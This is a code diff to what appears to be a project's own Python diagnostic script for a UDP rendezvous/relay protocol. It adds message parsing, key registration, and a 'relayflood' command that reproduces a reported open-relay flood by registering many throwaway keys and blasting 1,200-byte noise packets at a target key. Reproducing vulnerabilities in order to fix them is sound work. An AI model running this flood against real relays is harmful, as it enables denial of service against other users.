@@ -461,6 +461,79 @@ def cmd_series(host, port, secs, out):
     print(total, got, 'intact' if got == total else 'short')
     sys.exit(0 if got == total else 1)
 
+def _rdv_map(p):
+    """The flat map of a rendezvous message: small uint keys, uint or bin
+    values (enough for CHALLENGE and REGISTERED's first fields)."""
+    m, i, n = {}, 5, p[4] & 0x0f
+    for _ in range(n):
+        k, t = p[i], p[i + 1]
+        i += 2
+        if t < 0x80:
+            v = t
+        elif t in (0xcc, 0xcd, 0xce, 0xcf):
+            w = {0xcc: 1, 0xcd: 2, 0xce: 4, 0xcf: 8}[t]
+            v = int.from_bytes(p[i:i + w], 'big'); i += w
+        elif t == 0xc4:
+            v = p[i + 1:i + 1 + p[i]]; i += 1 + p[i]
+        else:
+            break
+        m[k] = v
+    return m
+
+def _rdv_register(s, srv, allow):
+    """A full rendezvous registration (docs/NAT.md) under a fresh key from
+    socket s, consenting to meet the keys in allow (python3-cryptography)."""
+    from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
+    from cryptography.hazmat.primitives import serialization
+    import hashlib
+    sk = X25519PrivateKey.generate()
+    pub = sk.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
+    s.sendto(bytes([8, 1, 0, 0, 0x82, 0, 1, 11, 0xc4, 118]) + bytes(118), srv)
+    ch = _rdv_map(s.recv(2048))
+    eph, ctime, cookie = ch[2], ch[3], ch[4]
+    dh = sk.exchange(X25519PublicKey.from_public_bytes(eph))
+    k_auth = hashlib.blake2b(b'auth' + pub + eph, digest_size=32, key=dh).digest()
+    tag = lambda a, b: hashlib.blake2b(min(a, b) + max(a, b), digest_size=8,
+                                       key=b'srmudp rdv pair\0').digest()
+    tags = b''.join(tag(pub, k) for k in allow)
+    b = lambda x: bytes([0xc4, len(x)]) + x
+    u64 = lambda v: b'\xcf' + struct.pack('>Q', v)
+    pkt = (bytes([8, 1, 0, 0, 0x88, 0, 3, 1]) + b(pub) + b'\x02' + b(eph) + b'\x03' + u64(ctime)
+           + b'\x04' + b(cookie) + b'\x05' + u64(int(time.time() * 1000)) + b'\x0d' + b(tags)
+           + b'\x0c\xc4\x10')
+    s.sendto(pkt + hashlib.blake2b(pkt, digest_size=16, key=k_auth).digest(), srv)
+    if _rdv_map(s.recv(2048))[0] != 4:
+        raise SystemExit('not registered')
+    return pub
+
+def cmd_relayflood(host, port, target_b64, keys, secs):
+    """The open-relay flood of issue 18 item 9: KEYS throwaway keys
+    registered from this host (each listing the target, which lists none of
+    them), each pushing 1,200-byte relay packets at the target's key as
+    fast as it can for SECS seconds.  Prints the bytes sent."""
+    import base64
+    srv = (host, int(port))
+    target = base64.urlsafe_b64decode(target_b64 + '=')
+    socks = []
+    for _ in range(int(keys)):
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.settimeout(2)
+        _rdv_register(s, srv, [target])
+        s.setblocking(False)
+        socks.append(s)
+    inner = bytes([4, 1, 0, 0]) + os.urandom(1200 - 36 - 4)  # a DATA packet's header, noise
+    pkt = bytes([9, 1, 0, 0]) + target + inner
+    sent = 0
+    end = time.time() + float(secs)
+    while time.time() < end:
+        for s in socks:
+            try:
+                s.sendto(pkt, srv)
+                sent += len(pkt)
+            except BlockingIOError:
+                time.sleep(0.0005)
+    print(sent)
+
 if __name__ == '__main__':
     cmd = sys.argv[1].replace('-', '_')
     globals()['cmd_' + cmd](*sys.argv[2:])
